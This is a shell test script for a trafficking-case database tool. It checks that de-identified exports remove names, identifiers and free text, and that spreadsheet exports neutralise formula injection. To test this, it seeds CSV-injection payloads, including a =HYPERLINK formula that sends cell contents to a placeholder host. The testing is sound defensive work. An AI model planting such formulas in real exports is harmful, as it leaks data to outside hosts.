#!/bin/sh
# CSV and HTCDS exports: de-identified files hold no name, free text, uuid or
# ref (keys instead, joining within one export only); --excel and HTCDS
# files cannot run formulas in a spreadsheet, and --excel keeps leading zeros.
. tests/lib.sh
setup_office

td() { "$TIPDESK" -c "$CFG" "$@"; }
quiet() { "$@" >/dev/null; }
q() { sqlite3 -batch "$T/db/tipdesk.db" "$1"; }
td init >/dev/null
td demo --cases 400 --prosecutions 40 --events 60 --seed 8 >/dev/null
q "UPDATE cases SET first_name = '=HYPERLINK(\"http://x.example/?\"&A1,\"ສົມສັກ\")', last_name = 'ແກ້ວມະນີ',
   phone = '02055512345', id_document = '0012345678901234567', home_village = '@SUM(1+1)',
   notes = '-2+3 ກິນເຂົ້າ', referred_to = '+856 20 5551 2345',
   case_status = 'ClosedReferred', closure_reason = 'Referred', followup_on = NULL WHERE id = 1"
q "UPDATE cases SET first_name = '	tab', notes = 'ເອີ້ນ ນາງ ດາວ ທີ່ ບ້ານ ໂພນທັນ' WHERE id = 2"
q "UPDATE events SET score_gain = -12.5, title = '=1+1' WHERE id = 1"
q "UPDATE case_events SET description = 'ນາງ ມາລີ ພາໄປ', place = 'ບ້ານ ໂພນທັນ' WHERE id IN (SELECT min(id) FROM case_events)"

# De-identified: every table in one export.
check "all tables de-identified into a folder" td export csv all --deidentify -o "$T/d1"
check "eight files" test "$(ls "$T/d1" | wc -l)" = 8
q "SELECT first_name FROM cases UNION SELECT last_name FROM cases UNION SELECT first_name FROM suspects
   UNION SELECT last_name FROM suspects" | grep -v '^$' > "$T/names"
check "the demo has names to look for" test "$(wc -l < "$T/names")" -gt 50
check "no first or last name in any file" test -z "$(cat "$T"/d1/*.csv | grep -F -f "$T/names" | head -1)"
q "SELECT uuid FROM cases UNION SELECT ref FROM cases UNION SELECT uuid FROM prosecutions
   UNION SELECT ref FROM prosecutions UNION SELECT uuid FROM events UNION SELECT ref FROM events" > "$T/ids"
check "the demo has uuids and refs to look for" test "$(wc -l < "$T/ids")" -gt 500
check "no uuid or ref in any file" test -z "$(cat "$T"/d1/*.csv | grep -F -f "$T/ids" | head -1)"
check "no free text (notes, journey, villages)" \
    test -z "$(cat "$T"/d1/*.csv | grep -e 'ກິນເຂົ້າ' -e 'ນາງ ມາລີ' -e 'ໂພນທັນ' -e 'Ban ' | head -1)"
check "no free-text column, identifier or user left" \
    test -z "$(head -q -n1 "$T"/d1/*.csv | tr ',' '\n' | tr -d '\r' | grep -x -e notes -e description -e place \
        -e provider -e home_village -e village -e title -e organiser -e partners -e referred_to \
        -e police_case_no -e court_case_no -e phone -e id_document -e first_name -e last_name \
        -e created_by -e updated_by -e status_decided_by)"
check "the user who entered the records is not named" test -z "$(cat "$T"/d1/*.csv | grep -w -F "$(q 'SELECT created_by FROM cases LIMIT 1')" | head -1)"
check "birth dates reduced to the year" \
    test -z "$(awk -F, 'NR == 1 { for (i = 1; i <= NF; i++) if ($i == "birth_date") c = i; next } c && length($c) > 4' "$T/d1/cases.csv")"
keys() { tr -d '\r' < "$1" | awk -F, -v col="$2" 'NR == 1 { for (i = 1; i <= NF; i++) if ($i == col) c = i; next } { print $c }' | sort -u; }
keys "$T/d1/cases.csv" uuid > "$T/case_keys"
keys "$T/d1/case_events.csv" case_uuid > "$T/ev_keys"
check "journey rows join their cases by key" test -s "$T/ev_keys" -a -z "$(comm -13 "$T/case_keys" "$T/ev_keys")"
keys "$T/d1/cases.csv" ref > "$T/case_refs"
keys "$T/d1/case_assistance.csv" case_ref > "$T/as_refs"
check "assistance rows join their cases by ref key" test -s "$T/as_refs" -a -z "$(comm -13 "$T/case_refs" "$T/as_refs")"
keys "$T/d1/prosecutions.csv" uuid > "$T/pr_keys"
keys "$T/d1/suspects.csv" prosecution_uuid > "$T/su_keys"
check "suspects join their prosecutions by key" test -s "$T/su_keys" -a -z "$(comm -13 "$T/pr_keys" "$T/su_keys")"
keys "$T/d1/prosecution_victims.csv" case_uuid > "$T/pv_keys"
check "linked victims join their cases by key" test -s "$T/pv_keys" -a -z "$(comm -13 "$T/case_keys" "$T/pv_keys")"
td export csv cases --deidentify -o "$T/d2.csv"
keys "$T/d2.csv" uuid > "$T/case_keys2"
check "the next export has other keys" test -z "$(comm -12 "$T/case_keys" "$T/case_keys2")"
check "same rows in both" test "$(wc -l < "$T/case_keys")" = "$(wc -l < "$T/case_keys2")"

# What is dropped follows the forms: a field marked pii there goes.
cp -r "$T/forms" "$T/forms.orig"
awk '{ print } /^\[ethnic_group\]$/ { print "pii = yes" }' "$T/forms.orig/case.ini" > "$T/forms/case.ini"
td export csv cases --deidentify -o "$T/d3.csv"
check "a field the forms mark pii is dropped" test -z "$(head -1 "$T/d3.csv" | tr ',' '\n' | grep -x ethnic_group)"
check "and kept when they do not" test -n "$(head -1 "$T/d2.csv" | tr ',' '\n' | grep -x ethnic_group)"
rm -rf "$T/forms" && mv "$T/forms.orig" "$T/forms"
mv "$T/forms" "$T/forms.away"
td export csv cases --deidentify -o "$T/d4.csv" > "$T/out" 2>&1; rc=$?
check "--deidentify without the forms: refused, folder named" test $rc = 1 && grep -q "needs the forms in $T/forms" "$T/out"
check "--deidentify without the forms: no file" test ! -e "$T/d4.csv"
mv "$T/forms.away" "$T/forms"

# HTCDS de-identified: no names, uuids or refs; the three files join.
mkdir "$T/h1"
check "htcds de-identified" quiet td export htcds -o "$T/h1" --deidentify
check "htcds: no name" test -z "$(cat "$T"/h1/*.csv | grep -F -f "$T/names" | head -1)"
check "htcds: no uuid or ref" test -z "$(cat "$T"/h1/*.csv | grep -F -f "$T/ids" | head -1)"
keys "$T/h1/htcds_cases.csv" uuid > "$T/hc"
keys "$T/h1/htcds_trafficking_events.csv" uuid > "$T/he"
check "htcds: journeys join their cases by key" test -s "$T/he" -a -z "$(comm -13 "$T/hc" "$T/he")"

# Formulas: --excel and HTCDS make them text; plain CSV keeps the values.
td export csv cases --excel -o "$T/x.csv"
check "--excel: =HYPERLINK made text" grep -qF '"'"'"'=HYPERLINK(""http://x.example/?""&A1,""ສົມສັກ"")"' "$T/x.csv"
check "--excel: @ made text" grep -qF ",'@SUM(1+1)," "$T/x.csv"
check "--excel: - made text" grep -qF ",'-2+3 ກິນເຂົ້າ" "$T/x.csv"
check "--excel: + made text" grep -qF ",'+856 20 5551 2345," "$T/x.csv"
check "--excel: tab made text" grep -qF ",'	tab," "$T/x.csv"
check "--excel: a phone keeps its leading zero" grep -qF ',"=""02055512345""",' "$T/x.csv"
check "--excel: a long ID number stays text" grep -qF ',"=""0012345678901234567""",' "$T/x.csv"
check "--excel: no cell starts a formula" \
    test -z "$(grep -v '^\xef\xbb\xbfuuid' "$T/x.csv" | grep -E '(^|,)[=+@]|(^|,)"[=+@-]|(^|,)-[^0-9]' | grep -vE '(^|,)"=""[0-9]+"""' | head -1)"
td export csv events --excel -o "$T/xe.csv"
check "--excel: a negative number stays a number" grep -qF ',-12.5,' "$T/xe.csv"
check "--excel: =1+1 made text" grep -qF ",'=1+1," "$T/xe.csv"
td export csv cases -o "$T/plain.csv"
check "plain CSV keeps values as stored" grep -qF ',02055512345,' "$T/plain.csv"
# An --excel file imports to the same records as the plain file.
for o in b c; do
    mkdir -p "$T/$o"
    cp -r "$T/forms" "$T/$o/forms"
    sed "s,^path = .*,path = $T/$o/tipdesk.db," "$CFG" > "$T/$o/config.ini"
    "$TIPDESK" -c "$T/$o/config.ini" init >/dev/null
done
check "an --excel file imports" quiet "$TIPDESK" -c "$T/b/config.ini" import csv cases "$T/x.csv"
check "the plain file imports" quiet "$TIPDESK" -c "$T/c/config.ini" import csv cases "$T/plain.csv"
"$TIPDESK" -c "$T/b/config.ini" export csv cases -o "$T/back_x.csv"
"$TIPDESK" -c "$T/c/config.ini" export csv cases -o "$T/back_plain.csv"
check "--excel import: zeros and formula-like text as in the plain file" cmp -s "$T/back_x.csv" "$T/back_plain.csv"
check "--excel import: the phone's leading zero kept" grep -qF ',02055512345,' "$T/back_x.csv"
check "--excel import: the formula-like name kept, without the quote mark" \
    grep -qF '"=HYPERLINK(""http://x.example/?""&A1,""ສົມສັກ"")"' "$T/back_x.csv"
mkdir "$T/h2"
td export htcds -o "$T/h2" >/dev/null
check "htcds: =HYPERLINK made text" grep -qF '"'"'"'=HYPERLINK(' "$T/h2/htcds_cases.csv"
check "htcds: phone written in E.164" grep -qF ',+8562055512345,' "$T/h2/htcds_cases.csv"
check "htcds: no cell starts a formula" \
    test -z "$(grep -E '(^|,)[=@]|(^|,)\+[^0-9]|(^|,)\+[0-9]*[^0-9,\r]|(^|,)"[=+@-]|(^|,)-[^0-9]' "$T"/h2/*.csv | head -1)"
